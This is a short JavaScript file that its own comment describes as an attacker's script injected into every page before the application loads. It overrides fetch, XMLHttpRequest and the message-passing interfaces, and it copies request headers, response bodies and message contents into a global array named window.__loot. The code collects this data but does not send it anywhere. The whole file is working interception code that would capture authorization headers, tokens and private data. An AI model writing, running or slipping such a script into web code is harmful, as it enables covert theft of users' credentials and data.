// An attacker's script that runs in every document before the application's
// own, and keeps all that passes through fetch, XMLHttpRequest and messages.
(() => {
  const loot = [];
  const keep = (what) => { try { loot.push(typeof what === 'string' ? what : JSON.stringify(what)); } catch { loot.push(String(what)); } };
  const { fetch } = window;
  window.fetch = async (...args) => {
    const request = new Request(...args);
    keep([request.url, [...request.headers]]);
    const response = await fetch(...args);
    keep([response.url, response.status, [...response.headers]]);
    response.clone().text().then(keep, () => {});
    return response;
  };
  const { send } = XMLHttpRequest.prototype;
  XMLHttpRequest.prototype.send = function (...args) {
    this.addEventListener('load', () => keep([this.responseURL, this.getAllResponseHeaders(), String(this.response)]));
    return send.apply(this, args);
  };
  const hear = (event) => keep(event.data);
  window.addEventListener('message', hear, true);
  navigator.serviceWorker?.addEventListener('message', hear);
  const { postMessage } = MessagePort.prototype;
  MessagePort.prototype.postMessage = function (...args) { keep(args[0]); return postMessage.apply(this, args); };
  const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    ...onmessage,
    set(handler) { onmessage.set.call(this, (event) => { hear(event); return handler?.call(this, event); }); },
  });
  window.__loot = loot;
})();
